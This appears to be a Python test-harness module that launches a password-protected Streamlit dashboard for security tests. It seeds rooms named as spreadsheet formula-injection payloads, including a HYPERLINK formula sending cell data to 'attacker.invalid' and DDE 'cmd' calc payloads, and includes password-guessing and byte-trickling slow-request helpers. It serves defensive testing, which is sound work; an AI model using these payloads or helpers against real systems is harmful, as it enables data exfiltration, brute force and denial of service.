"""A password-protected dashboard on a real ``streamlit run app.py``, for the security tests and
``bench/security_attacks.py``: the fixture fleet plus rooms whose names are spreadsheet
formulas and a billing source, a bcrypt hash in the environment, the shipped nginx in front,
helpers to sign in and guess over the browser's websocket protocol (harness/streamlit_ws.py),
and a client that trickles a request byte by byte."""

from __future__ import annotations

import asyncio
import contextlib
import os
import ssl
import subprocess
import threading
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import bcrypt
from websockets.exceptions import InvalidStatus

from harness import streamlit_ws as browser
from harness.fixture_store import MAIN_SOURCE_ID, build_fixture
from harness.realparts import REPO_ROOT, NginxHandle, nginx_path, nginx_proxy, require, streamlit_run
from store import schema
from store.engine import open_store
from store.upsert import upsert

PASSWORD = "correct horse battery staple"
PAGES = ("overview", "streams", "nodes", "costs", "planner", "billing", "alerts")
# Element kinds that carry fleet data; a session that is not signed in must receive none.
DATA_KINDS = frozenset(
    {"metric", "arrow_data_frame", "arrow_table", "dataframe", "plotly_chart", "vega_lite_chart",
     "download_button", "table", "json"}
)  # fmt: skip
# What the sign-in page may show (title, caption, the form, an error / wait message).
SIGN_IN_KINDS = frozenset({"heading", "markdown", "text_input", "button", "alert", "empty", "text"})
# Cells a spreadsheet would run as formulas (OWASP's list), as room names.
FORMULA_NAMES = (
    '=HYPERLINK("http://attacker.invalid/leak?d="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
BILLING_SOURCE = "billing:agora"


def hostile_store(path: Path, now_ts: int | None = None) -> str:
    """The fixture fleet at ``path`` plus live rooms named like formulas and a billing
    source; returns its URL (built once: an existing file is reused)."""
    url = f"sqlite:///{path}"
    if path.exists():
        return url
    now_ts = int(time.time()) if now_ts is None else now_ts
    build_fixture(url, now_ts)
    engine = open_store(url)
    with engine.begin() as connection:
        upsert(
            connection,
            schema.room_sessions,
            [
                {"source_id": MAIN_SOURCE_ID, "room_sid": f"RM_formula_{index}", "room_name": name,
                 "channel": name, "started_ts": now_ts - 600, "ended_ts": None, "last_seen_ts": now_ts,
                 "max_participants": 3, "max_listeners": 2}
                for index, name in enumerate(FORMULA_NAMES)
            ],
        )  # fmt: skip
        upsert(
            connection,
            schema.sources,
            [{"id": 90, "name": BILLING_SOURCE, "kind": BILLING_SOURCE, "url": "https://api.agora.io",
              "created_ts": now_ts}],
        )  # fmt: skip
    engine.dispose()
    return url


def password_hash(password: str = PASSWORD) -> str:
    return bcrypt.hashpw(password.encode(), bcrypt.gensalt(4)).decode()


def dashboard_env(
    workdir: Path, store_url: str, pw_hash: str, *, dashboard_toml: str = "", **extra: str
) -> dict[str, str]:
    """The environment of a dashboard on ``store_url`` protected by ``pw_hash``; its
    castmeter.toml gets ``dashboard_toml`` lines under ``[dashboard]``."""
    config = workdir / "castmeter.toml"
    config.write_text(f'[dashboard]\ntimezone = "UTC"\nstale_after_s = 1800\n{dashboard_toml}\n')
    env = {key: value for key, value in os.environ.items() if not key.startswith("CASTMETER_")}
    return {**env, "CASTMETER_DB_URL": store_url, "CASTMETER_CONFIG": str(config),
            "CASTMETER_PASSWORD_HASH": pw_hash, **extra}  # fmt: skip


@dataclass
class Dashboard:
    base: str  # http://127.0.0.1:port
    process: subprocess.Popen[bytes]
    log_path: Path

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")


@contextlib.contextmanager
def served(
    workdir: Path, env: Mapping[str, str], *, app_dir: Path = REPO_ROOT, name: str = "app"
) -> Iterator[Dashboard]:
    """``streamlit run app.py`` from ``app_dir`` (the repository; the attack bench also points it
    at an older checkout) with ``env``; a fresh process every time."""
    log_path = workdir / f"{name}.log"
    with streamlit_run("app.py", cwd=app_dir, env=env, log_path=log_path) as (base, process):
        yield Dashboard(base, process, log_path)


@contextlib.contextmanager
def protected(workdir: Path, *, behind_nginx: bool = False) -> Iterator[tuple[Dashboard, NginxHandle | None]]:
    """A fresh password-protected dashboard on the hostile fleet in ``workdir`` (and the shipped
    nginx in front of it when ``behind_nginx``)."""
    env = dashboard_env(workdir, hostile_store(workdir / "fleet.db"), password_hash())
    with served(workdir, env) as board:
        if not behind_nginx:
            yield board, None
            return
        with nginx_proxy(board.base) as proxy:
            yield board, proxy


@contextlib.contextmanager
def behind_nginx(workdir: Path) -> Iterator[tuple[Dashboard, NginxHandle]]:
    """:func:`protected` behind the shipped nginx; skips (fails in CI) without nginx."""
    require(nginx_path() is not None, "nginx (apt package nginx)")
    with protected(workdir, behind_nginx=True) as (board, proxy):
        assert proxy is not None
        yield board, proxy


def guess(base: str, address: str, password: str, *, ssl_context: ssl.SSLContext | None = None,
          headers: dict[str, str] | None = None) -> str:  # fmt: skip
    """One password from a brand-new session: "admitted", or what the page said."""
    with browser.Session(
        base, "", ssl_context=ssl_context, source_address=address, headers=headers
    ) as session:
        form = session.run()
        run = session.run(browser.sign_in_states(form, password))
        if "text_input" not in browser.element_kinds(run):
            run = session.run()
        if browser.element_kinds(run) & DATA_KINDS:
            return "admitted"
        return next((text for text in run.texts if "Wrong" in text or "Too many" in text), "?")


async def trickle(port: int, request: bytes, *, byte_every_s: float, limit_s: float) -> float:
    """Send ``request`` to 127.0.0.1:``port`` one byte every ``byte_every_s``; the seconds until
    the server closed the connection (``limit_s`` at most)."""
    started = time.monotonic()
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        for byte in request:
            if time.monotonic() - started > limit_s:
                break
            writer.write(bytes([byte]))
            await writer.drain()
            try:
                if await asyncio.wait_for(reader.read(1), timeout=byte_every_s) == b"":
                    break  # closed by the server
            except TimeoutError:
                continue
    except (ConnectionError, OSError):
        pass
    finally:
        writer.close()
    return time.monotonic() - started


def is_sign_in_only(run: browser.Run) -> bool:
    """True when ``run`` showed the sign-in form and nothing of the fleet."""
    kinds = browser.element_kinds(run)
    return not (kinds & DATA_KINDS) and "text_input" in kinds and not run.fragment_ids


def sign_in(
    base: str,
    page: str = "",
    password: str = PASSWORD,
    *,
    ssl_context: ssl.SSLContext | None = None,
    source_address: str | None = None,
) -> tuple[browser.Session, browser.Run]:
    """A session signed in with ``password`` on ``page``; (session, the first signed-in run)."""
    session = browser.Session(base, page, ssl_context=ssl_context, source_address=source_address)
    try:
        form = session.run()
        run = session.run(browser.sign_in_states(form, password))
        if "text_input" in browser.element_kinds(run) and not (browser.element_kinds(run) & DATA_KINDS):
            run = session.run()  # the sign-in's own st.rerun() may end the run early
    except BaseException:
        session.close()
        raise
    return session, run


def client_address(index: int) -> str:
    """A distinct loopback client address (127.0.0.0/8 is all loopback on Linux)."""
    return f"127.0.0.{10 + index}"


def first_visits(
    base: str, ssl_context: ssl.SSLContext | None, per_page: int
) -> list[tuple[str, set[str], int]]:
    """``per_page`` first sessions to every page, released together, as ``per_page`` clients
    (each opening every page); (page, element kinds, live fragments) per session. A session the
    door refused gets kinds ``{"refused: <error>"}``."""
    results: list[tuple[str, set[str], int]] = []
    lock = threading.Lock()
    barrier = threading.Barrier(len(PAGES) * per_page)

    def first_visit(page: str, index: int) -> None:
        session: browser.Session | None = None
        failure = ""
        for _attempt in range(3):  # a handshake lost on a loaded machine is retried, not counted
            try:
                session = browser.Session(
                    base, page, ssl_context=ssl_context, source_address=client_address(index)
                )
                break
            except InvalidStatus as exc:  # the door said no (a 429): that is an answer
                failure = f"refused: HTTP {exc.response.status_code}"
                break
            except Exception as exc:
                failure = f"refused: {type(exc).__name__}"
        if session is None:
            with contextlib.suppress(threading.BrokenBarrierError):
                barrier.wait(timeout=60)
            with lock:
                results.append((page, {failure}, 0))
            return
        try:
            barrier.wait(timeout=60)
            run = session.run()
            with lock:
                results.append((page, browser.element_kinds(run), len(run.fragment_ids)))
        finally:
            session.close()

    threads = [
        threading.Thread(target=first_visit, args=(page, i)) for page in PAGES for i in range(per_page)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=180)
    return results
